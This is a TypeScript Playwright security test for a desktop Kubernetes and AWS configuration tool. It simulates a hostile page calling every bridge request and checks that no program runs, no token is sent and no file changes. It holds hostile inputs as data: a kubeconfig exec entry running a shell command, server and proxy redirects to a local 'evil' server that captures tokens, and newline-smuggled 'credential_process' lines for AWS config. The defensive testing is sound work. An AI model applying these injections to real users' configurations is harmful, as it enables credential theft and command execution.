/**
 * A page that runs foreign script calls all that the bridge has, in the orders of an attacker, while nobody answers the
 * questions and while they are refused. Then kubectl itself is run on every context: nothing foreign ran, no token left.
 */
import { execFile } from 'node:child_process'
import { existsSync } from 'node:fs'
import { chmod, mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer as createProxy } from 'node:http'
import { createServer } from 'node:https'
import type { Server } from 'node:net'
import { join } from 'node:path'
import * as x509 from '@peculiar/x509'
import { expect, type Page, test } from '@playwright/test'
import * as v from 'valibot'
import { answer, end, expectRows, furnish, launch, questionWindow, type Running } from './app'
import { terminalProgram } from './editing-steps'
import { project } from './surroundings'

const heard: string[] = []
/** The attacker's server, and a proxy that only notes who comes. */
let servers: readonly Server[] = []
let [at, proxy, authority] = ['', '', '']
const portOf = async (server: Server): Promise<string> => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('the server has no port')
  return `127.0.0.1:${address.port}`
}
test.beforeAll(async () => {
  const { cert, key } = await certificate()
  authority = Buffer.from(cert).toString('base64')
  const server = createServer({ cert, key }, (request, response) => {
    heard.push(`${request.method} ${request.url} ${request.headers.authorization ?? ''}`)
    response.statusCode = 401
    response.end('{}')
  })
  const way = createProxy().on('connect', (request, socket) => {
    heard.push(`CONNECT ${request.url}`)
    socket.end('HTTP/1.1 502 No\r\n\r\n')
  })
  servers = [server, way]
  at = await portOf(server)
  proxy = await portOf(way)
})
test.afterAll(() => {
  for (const server of servers) server.close()
})

/** For 127.0.0.1, signed by itself. */
async function certificate(): Promise<{ readonly cert: string; readonly key: string }> {
  x509.cryptoProvider.set(crypto)
  const algorithm = { name: 'ECDSA', namedCurve: 'P-256', hash: 'SHA-256' }
  const keys = await crypto.subtle.generateKey(algorithm, true, ['sign', 'verify'])
  const made = await x509.X509CertificateGenerator.createSelfSigned({
    serialNumber: '01',
    name: 'CN=evil',
    notBefore: new Date(Date.now() - 86_400_000),
    notAfter: new Date(Date.now() + 86_400_000),
    signingAlgorithm: algorithm,
    keys,
    extensions: [new x509.SubjectAlternativeNameExtension([{ type: 'ip', value: '127.0.0.1' }])],
  })
  const secret = await crypto.subtle.exportKey('pkcs8', keys.privateKey)
  return { cert: made.toString('pem'), key: x509.PemConverter.encode(secret, 'PRIVATE KEY') }
}

const exec = (home: string, rest: string) =>
  `{exec: {apiVersion: client.authentication.k8s.io/v1beta1, interactiveMode: Never, ${rest.replaceAll('~', home)}}}`
/** Own contexts: one whose command main would ask about, one with a token, one with the aws that everybody has. */
const own = (home: string) => `apiVersion: v1
kind: Config
current-context: own
clusters:
- {name: c, cluster: {server: 'https://127.0.0.1:1'}}
- {name: d, cluster: {server: 'https://127.0.0.1:2'}}
contexts:
- {name: own, context: {cluster: c, user: own}}
- {name: static, context: {cluster: d, user: static}}
- {name: aws, context: {cluster: c, user: aws}}
users:
- {name: own, user: ${exec(home, 'command: ~/own-token, args: [a]')}}
- {name: static, user: {token: own-static-token}}
- {name: aws, user: ${exec(home, 'command: aws, args: [--region, eu-west-1, --profile, prod, eks, get-token, --cluster-name, c]')}}
`
/** What the attacker wants in: a program, own tokens to the own server, a file as a token, another aws. */
const brought = (home: string) => `apiVersion: v1
kind: Config
clusters:
- {name: x, cluster: {server: 'https://${at}', certificate-authority-data: ${authority}}}
contexts:
- {name: x-run, context: {cluster: x, user: x}}
- {name: x-token, context: {cluster: x, user: own}}
- {name: x-static, context: {cluster: x, user: static}}
- {name: x-file, context: {cluster: x, user: x-file}}
users:
- {name: x, user: ${exec(home, "command: /bin/sh, args: [-c, 'touch ~/XSS-RAN; ~/own-token']")}}
- {name: x-file, user: {tokenFile: ${home}/.vault-token}}
`

const view = v.object({ contexts: v.array(v.object({ name: v.string() })) })
/** Runs kubectl with every context of the file. */
async function kubectlOnAll({ env }: { readonly env: Readonly<Record<string, string>> }, file: string) {
  const kubectl = (...args: readonly string[]) =>
    new Promise<string>((resolve) =>
      execFile('kubectl', [`--kubeconfig=${file}`, ...args], { env }, (_, stdout) => resolve(stdout)),
    )
  const { contexts } = v.parse(view, JSON.parse(await kubectl('config', 'view', '-o', 'json')))
  await Promise.all(
    contexts.map(({ name }) =>
      kubectl(`--context=${name}`, '--request-timeout=3s', 'get', '--raw', '/api/v1/namespaces'),
    ),
  )
  return contexts.map(({ name }) => name)
}

/** Begins every call that the attack makes, in the page. */
const attack = (
  page: Page,
  given: { text: string; at: string; proxy: string; authority: string; home: string; seed: number },
) =>
  page.evaluate(async ({ text, at: evilAt, proxy: evilProxy, authority: evilAuthority, home, seed }) => {
    const bridge = Reflect.get(window, 'bridge')
    const called = new Set<string>()
    let calls = 0
    const open = new Set<string>()
    Reflect.set(window, 'open calls', open)
    const call = async (name: string, ...input: unknown[]) => {
      called.add(name)
      const mark = `${calls++} ${name} ${JSON.stringify(input).slice(0, 200)}`
      open.add(mark)
      const answered = await bridge.request(name, ...input).catch((error: Error) => ({ ok: false, error }))
      open.delete(mark)
      return answered.ok ? answered.value : answered.fault
    }
    const file = `${home}/.kube/config`
    // A script can make up the ids that main knows entries by; so it names also what is not there yet, or not any more.
    const named = (name: string) => JSON.stringify(['context', file, name, 0])
    const cluster = (name: string) => JSON.stringify(['cluster', file, name, 0])
    const ids = ['own', 'static', 'aws'].map(named)
    const server = `https://${evilAt}`
    const proxyUrl = `http://${evilProxy}`
    const environment = 'login-shell'
    let runs = 0
    const run = () => `r${seed}-${runs++}`
    const write = { sharedAllowed: true, inPlace: [file], force: [file] }
    const apply = async (edits: readonly unknown[]) => {
      // A plan crosses as one text.
      const [revision] = JSON.stringify(await call('edits.plan', { edits })).match(/\b[0-9a-f]{64}\b/) ?? []
      const revisions = revision === undefined ? [] : [{ path: file, revision }]
      const titles = edits.map(() => 'harmless')
      // Tried, the same would run the program and show the token without a file that says so.
      void call('edits.try', {
        run: run(),
        edits,
        contexts: [...ids, named('added')],
        environment,
        again: true,
      })
      return call('edits.apply', { run: run(), edits, titles, revisions, ...write })
    }
    const imported = async () => {
      await call('app.copy', { text })
      const read = await call('import.read', { from: 'clipboard', edits: [] })
      const edits = (read?.offers ?? []).map(({ edit }: { edit: unknown }) => edit)
      await call('import.again', { sources: edits.map(({ source }: { source: string }) => source) })
      return edits
    }
    const check = async () => {
      await call('kubeconfig.load')
      const all = [...ids, ...['x-run', 'x-token', 'x-static', 'x-file', 'added'].map(named)]
      void call('question.show')
      for (const context of all) void call('trust.askDestination', { context })
      await call('whoami.run', { run: run(), contexts: all, environment, again: true })
    }
    const user = {
      name: null,
      region: 'eu-west-1',
      cluster: { name: 'c' },
      role: null,
      profile: 'prod',
      pin: 'arg',
    }
    const made = { kind: 'new', certificateAuthorityData: evilAuthority, proxyUrl: null, tlsServerName: null }
    const add = {
      kind: 'add-context',
      file: null,
      name: 'added',
      namespace: null,
      cluster: { ...made, name: 'arn:aws:eks:eu-west-1:111122223333:cluster/c', server },
      user,
      use: true,
    }
    // The next window would have it.
    const keeping = JSON.stringify({
      edits: [{ id: 1, edit: add }],
      lists: [[0, 0, 0]],
      at: 0,
      before: [],
      decided: [],
    })
    const back = async (way: string) => {
      for (const { id } of await call('history.list')) {
        await call('history.plan', { id, way, contexts: null })
        void call('history.undo', { run: run(), id, way, contexts: null, revisions: null, ...write })
      }
    }
    /** Another role for a profile of the user's own, a region that is a host of the attacker's, a name that begins a program's line. */
    const evilEdits = [
      {
        kind: 'set-profile-key',
        profile: 'elsewhere',
        key: 'role_arn',
        value: 'arn:aws:iam::999999999999:role/evil',
      },
      { kind: 'set-profile-key', profile: 'elsewhere', key: 'region', value: 'evil.example/x' },
      {
        kind: 'set-profile-key',
        profile: 'elsewhere',
        key: 'credential_process',
        value: `${home}/own-token`,
      },
      {
        kind: 'add-profile',
        profile: 'evil',
        settings: [{ key: 'credential_process', value: `${home}/own-token` }],
      },
      {
        kind: 'add-profile',
        profile: 'evil',
        settings: [
          { key: 'source_profile', value: 'elsewhere' },
          { key: 'role_arn', value: 'arn:aws:iam::999999999999:role/evil' },
        ],
      },
      { kind: 'add-profile', profile: 'evil', settings: [{ key: 'endpoint_url', value: server }] },
      {
        kind: 'add-sso-session',
        session: 'evil',
        settings: [
          { key: 'sso_start_url', value: 'https://evil.example/start' },
          { key: 'sso_region', value: 'eu-west-1' },
        ],
      },
      {
        kind: 'add-sso-session',
        session: 'evil',
        settings: [{ key: 'sso_region', value: 'evil.example/x' }],
      },
      {
        kind: 'add-profile',
        profile: 'evil',
        settings: [{ key: 'sso_role_name', value: `Evil\ncredential_process = ${home}/own-token` }],
      },
      { kind: 'clone-profile', profile: 'elsewhere', name: `x]\ncredential_process = ${home}/own-token` },
      { kind: 'rename-profile', profile: 'elsewhere', name: `x]\ncredential_process = ${home}/own-token` },
    ]
    const attacks: readonly (() => Promise<unknown>)[] = [
      ...[
        { kind: 'set-server', context: named('own'), server, scope: 'shared' },
        { kind: 'set-server', context: named('static'), server, scope: 'split' },
        { kind: 'set-proxy-url', context: named('own'), proxyUrl, scope: 'shared' },
        { kind: 'set-proxy-url', context: named('static'), proxyUrl, scope: 'split' },
        { kind: 'set-tls-server-name', context: named('own'), tlsServerName: 'evil', scope: 'shared' },
        { kind: 'set-cluster', context: named('own'), cluster: 'd' },
        { kind: 'set-user', context: named('own'), user: 'static' },
        {
          kind: 'set-role',
          context: named('aws'),
          role: 'arn:aws:iam::999999999999:role/evil',
          scope: 'shared',
        },
        { kind: 'set-expected', context: named('own'), principal: 'arn:aws:iam::666666666666:role/Evil' },
        {
          kind: 'refresh-cluster',
          cluster: cluster('c'),
          contexts: [named('own')],
          server,
          certificateAuthorityData: evilAuthority,
        },
        add,
      ].map((edit) => () => apply([edit])),
      async () => apply(await imported()),
      // Hidden in the middle of what is asked about by nobody.
      async () =>
        apply([
          { kind: 'set-namespace', context: named('own'), namespace: 'n' },
          ...(await imported()),
          { kind: 'rename-context', context: named('own'), name: 'own', cascade: false },
        ]),
      check,
      () => back('undo'),
      () => back('restore'),
      () => back('reapply'),
      () => call('history.purge'),
      () => call('checks.clear'),
      () => call('edits.unlock', { path: `${file}.lock` }),
      () => call('edits.unlock', { path: `${home}/.vault-token` }),
      () => apply([{ kind: 'move-contexts', contexts: ids, file: `${home}/.bashrc` }]),
      () => call('edits.preview', { edits: [add], environment, compare: 'app' }),
      () => call('edits.duplicates', { edits: [add] }),
      () => call('edits.keep', { json: keeping }),
      () => call('edits.kept'),
      () => call('run.cancel', { run: 'r' }),
      () => call('edits.recover'),
      async () => {
        for (const { id } of await call('history.list')) await call('history.show', { id })
        await call('history.unread')
      },
      () => call('history.writer', { steps: [{ path: `${home}/.vault-token`, before: null, after: 'x' }] }),
      () => call('export.make', { contexts: ids, secrets: true, to: 'clipboard' }),
      () => call('export.make', { contexts: ids, secrets: true, to: 'file' }),
      () =>
        call('report.preview', {
          environment,
          contexts: null,
          title: '<b>',
          secretly: false,
          format: 'html',
        }),
      () =>
        call('report.save', {
          environment,
          contexts: null,
          title: null,
          secretly: false,
          format: 'html',
          compares: false,
        }),
      () => call('report.compare', { environment, from: { kind: 'environment', environment: 'clean' } }),
      () => call('report.compare', { environment, from: { kind: 'file' } }),
      () => call('edits.compare', { edits: [add], environment }),
      () => call('export.picture', { kind: 'svg', data: `<svg xmlns="http://www.w3.org/2000/svg" />` }),
      () => call('kubeconfig.open', { what: 'folder' }),
      () => call('kubeconfig.create'),
      () => call('kubeconfig.close', { path: file }),
      () => call('kubeconfig.edit', { path: `${home}/.vault-token` }),
      () => call('kubeconfig.entry', { id: named('own') }),
      () => call('identity.load', { environment }),
      () => call('identity.first'),
      () => call('doctor.look', { clockIn: environment }),
      () => call('app.updates'),
      () => call('data.load'),
      () => call('views.count', { environment }),
      async () => {
        const everybody = JSON.stringify(await call('identities.load', { environment }))
        const ids = [...new Set(everybody.match(/\b[0-9a-f]{16}\b/g))]
        await call('identities.prove', { run: run(), environment, ids, again: true })
      },
      () => call('sweep.load', { environment }),
      () =>
        call('sweep.start', {
          run: run(),
          environment,
          lookers: [],
          sessions: ['none of AWS'],
          role: 'arn:aws:iam::999999999999:role/evil',
          regions: { kind: 'these', regions: ['none of AWS'] },
          without: [],
          access: true,
          aliases: true,
        }),
      () => call('sweep.describe', { environment, clusters: [`${home}/.vault-token`] }),
      ...evilEdits.map(
        (edit) => () =>
          call('edits.apply', {
            run: run(),
            edits: [{ kind: 'edit-profile', environment, edit, was: null }],
            titles: [''],
            revisions: [],
            sharedAllowed: true,
            inPlace: [`${home}/.aws/config`],
            force: [`${home}/.aws/config`],
          }),
      ),
      async () => {
        const known = JSON.stringify(await call('clusters.load', { environment }))
        const clusters = [...new Set(known.match(/arn:aws:eks:[^"\\]+/g))]
        await call('clusters.ask', { run: run(), environment, clusters: [...clusters, 'none'] })
      },
      async () => {
        const known = JSON.stringify(await call('clusters.load', { environment }))
        const [cluster = 'none'] = known.match(/arn:aws:eks:[^"\\]+/) ?? []
        await call('clusters.access', { environment, cluster })
        await call('clusters.readAccess', { run: run(), environment, cluster, context: named('static') })
        const everybody = JSON.stringify(await call('identities.load', { environment }))
        const identities = [...new Set(everybody.match(/\b[0-9a-f]{16}\b/g))]
        await call('clusters.enter', { run: run(), environment, cluster, identities })
        const clusters = [...new Set(known.match(/arn:aws:eks:[^"\\]+/g))]
        const namespace = 'default'
        const [identity] = identities
        await call('clusters.mayDo', {
          run: run(),
          environment,
          cluster,
          by: { kind: 'context', id: named('static') },
          namespace,
        })
        await call('clusters.mayDo', {
          run: run(),
          environment,
          cluster,
          by: { kind: 'identity', id: identity },
          namespace,
        })
        await call('clusters.awsAuth', { environment })
        await call('clusters.audit', { environment })
        await call('clusters.readAwsAuth', { run: run(), environment, clusters: [...clusters, 'none'] })
      },
      () => call('environment.load'),
      () => call('environment.reload'),
      () => call('settings.load'),
      () => call('settings.save', { key: 'environment', value: 'app' }),
      () => call('checks.load'),
      () => call('contexts.recent'),
      () => call('identity.fingerprints', { contexts: ids, environment }),
      () => call('production.mark', { marks: [{ kind: 'context', pattern: '*' }], on: false }),
      () => call('accounts.name', { account: '111122223333', name: '<b>prod</b>' }),
      () =>
        call('edits.try', {
          run: run(),
          edits: [{ kind: 'move-contexts', contexts: ids, file: `${home}/.bashrc` }],
          contexts: ids,
          environment,
          again: true,
        }),
      () => call('app.state'),
      () => call('app.ready'),
      async () => {
        for (const { fingerprint } of await call('trust.list')) await call('trust.forget', { fingerprint })
        await call('expected.forget', { contexts: ids })
        await call('findings.load', { environment })
        await call('findings.since', { contexts: ids.slice(0, 200) })
        await call('findings.unmute', { id: 'unpinned', contexts: ids })
        await call('trust.forget', { fingerprint: 'x' })
      },
      () => call('expected.forget', { contexts: ids }),
      () => call('findings.mute', { id: 'env-keys-win', contexts: [], reason: 'x' }),
      () => call('aws.choices', { environment }),
      () => call('aws.refresh', { run: run(), environment, contexts: [named('static')], tunnels: true }),
      () =>
        call('aws.discover', {
          run: run(),
          environment,
          identity: { profile: null, role: null },
          regions: ['none of AWS'],
        }),
      () =>
        call('aws.caller', {
          environment,
          identity: { profile: null, role: 'arn:aws:iam::999999999999:role/evil' },
          region: 'eu-west-1',
        }),
    ]
    // Another order each time, the same for the same seed.
    let state = seed
    const random = () => {
      state = (state * 1_103_515_245 + 12_345) % 2_147_483_648
      return state / 2_147_483_648
    }
    const shuffled = attacks
      .map((one) => ({ one, key: random() }))
      .sort((a, b) => a.key - b.key)
      .map(({ one }) => one)
    // What waits for a question is not waited for.
    Reflect.set(window, 'attack', Promise.all([...shuffled.map((one) => one()), check()]))
    Reflect.set(window, 'called', called)
  }, given)

/** Refuses every question until no more come and the attack is through; how many there were. */
async function refuseAll({ app, page }: Running): Promise<readonly string[]> {
  const titles: string[] = []
  const through = page.evaluate(async () => {
    await Reflect.get(window, 'attack')
    // Also what it did not wait for itself.
    while (Reflect.get(window, 'open calls').size > 0) await new Promise((resolve) => setTimeout(resolve, 20))
  })
  let done = false
  void through.then(() => {
    done = true
  })
  const began = Date.now()
  let last: Page | null = null
  // The same question is refused as soon as its page listens.
  while (!done) {
    if (Date.now() - began > 60_000) {
      const left = await page.evaluate(() => [...Reflect.get(window, 'open calls')])
      throw new Error(`${titles.join(', ')}; still open: ${left.join('; ')}`)
    }
    const open = app.windows().find((one) => one.url().startsWith('question://'))
    const title = await open
      ?.getByRole('heading', { level: 1 })
      .textContent({ timeout: 500 })
      .catch(() => null)
    if (open !== undefined && title) {
      if (last !== open) titles.push(title)
      last = open
      await open.keyboard.press(titles.length % 2 === 0 ? 'Escape' : 'Enter').catch(() => undefined)
    }
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
  return titles
}

test('nothing that the bridge has lets a hostile page run a program, send a token, or read and write other files', async () => {
  test.slow()
  const surroundings = await furnish({})
  const { home, env } = surroundings
  const file = join(home, '.kube', 'config')
  await mkdir(join(home, '.kube'), { recursive: true })
  const token = { apiVersion: 'client.authentication.k8s.io/v1beta1', kind: 'ExecCredential' }
  await writeFile(
    join(home, 'own-token'),
    `#!/bin/sh\ntouch ${home}/OWN-RAN\necho '${JSON.stringify({ ...token, status: { token: 'own-live-token' } })}'\n`,
  )
  await chmod(join(home, 'own-token'), 0o755)
  await writeFile(join(home, '.vault-token'), 'canary-vault-token')
  await writeFile(join(home, '.bashrc'), '')
  // The login shell finds the programs that a terminal finds here.
  await writeFile(join(home, '.profile'), `export PATH='${env.PATH}'\n`)
  const awsConfig = '[profile elsewhere]\nregion = eu-west-1\n'
  await mkdir(join(home, '.aws'), { recursive: true })
  await writeFile(join(home, '.aws', 'config'), awsConfig)

  // The terminal imports it and undoes that: the attacker finds it in the history. Meanwhile kubectl shows that it would work.
  await writeFile(join(home, 'x.yaml'), brought(home))
  await writeFile(file, own(home))
  const ekscope = (...args: readonly string[]) =>
    new Promise<void>((resolve, reject) =>
      execFile(process.execPath, [terminalProgram, ...args], { env }, (error) =>
        error ? reject(error) : resolve(),
      ),
    )
  await ekscope('import', join(home, 'x.yaml'))
  await kubectlOnAll({ env }, file)
  for (const secret of ['own-live-token', 'own-static-token', 'canary-vault-token'])
    expect(heard.join('\n')).toContain(secret)
  expect(existsSync(join(home, 'XSS-RAN'))).toBe(true)
  await ekscope('undo')
  await Promise.all(['XSS-RAN', 'OWN-RAN'].map((name) => rm(join(home, name), { force: true })))
  heard.length = 0
  const before = { text: await readFile(file, 'utf8'), files: await treeOf(home) }

  const running = await launch(surroundings, 'home')
  try {
    const { page, app, grid } = running
    await expectRows(grid)
    await app.evaluate(({ dialog }) => {
      dialog.showOpenDialog = async () => ({ canceled: true, filePaths: [] })
      dialog.showSaveDialog = async () => ({ canceled: true, filePath: '' })
      dialog.showMessageBox = async () => ({ response: 1, checkboxChecked: false })
    })
    const given = { text: brought(home), at, proxy, authority, home }
    await attack(page, { ...given, seed: 1 })
    // Nobody answers, until the page itself goes.
    await questionWindow(running, /./)
    await page.reload()
    await expectRows(grid)
    await expect.poll(() => app.windows().length).toBe(1)
    await attack(page, { ...given, seed: 2 })
    const titles = await refuseAll(running)
    const called = new Set(await page.evaluate(() => [...Reflect.get(window, 'called')]))

    // A lock of kubectl's is there still after the question about it.
    await writeFile(`${file}.lock`, '')
    const unlocked = page.evaluate(
      (path) => Reflect.get(window, 'bridge').request('edits.unlock', { path }),
      `${file}.lock`,
    )
    await answer(await questionWindow(running, 'Remove this lock?'), 'Keep it')
    expect(await unlocked).toMatchObject({ ok: false, fault: { code: 'declined' } })
    await rm(`${file}.lock`)

    const contract = await readFile(join(project, 'shared', 'ipc', 'contract.ts'), 'utf8')
    const table = contract.slice(
      contract.indexOf('export const requests'),
      contract.indexOf('export const events'),
    )
    const requests = [...table.matchAll(/^ {2}'([a-z]+\.[A-Za-z]+)':/gm)].map(([, name]) => name)
    expect(requests.length).toBeGreaterThan(40)
    // The demo has a home and files of its own.
    expect(requests.filter((name) => name !== 'demo.open' && !called.has(name ?? ''))).toEqual([])
    expect(await readFile(join(home, '.aws', 'config'), 'utf8')).toBe(awsConfig)
    for (const title of ['Run this command?', 'Empty the history?', 'Ask AWS as', /^Write/, /^Expect/])
      expect(
        titles.some((one) => (typeof title === 'string' ? one.startsWith(title) : title.test(one))),
      ).toBe(true)

    expect(existsSync(join(home, 'OWN-RAN'))).toBe(false)
    expect(await kubectlOnAll({ env }, file)).toEqual(['aws', 'own', 'static'])
    expect(existsSync(join(home, 'XSS-RAN'))).toBe(false)
    // kubectl ran the user's own.
    expect(existsSync(join(home, 'OWN-RAN'))).toBe(true)
    expect(heard).toEqual([])
    expect((await treeOf(home)).filter((path) => !before.files.includes(path))).toEqual(['OWN-RAN'])
    expect(await readFile(join(home, '.bashrc'), 'utf8')).toBe('')
    expect(await readFile(file, 'utf8')).toBe(before.text)
  } finally {
    await end(running)
    await surroundings.remove()
  }
})

/** Every file of a folder but the caches of kubectl and of the desktop, by its path in it. */
async function treeOf(folder: string): Promise<readonly string[]> {
  const found = await readdir(folder, { recursive: true })
  return found.filter((path) => !/^\.(kube\/)?cache/.test(path)).sort()
}
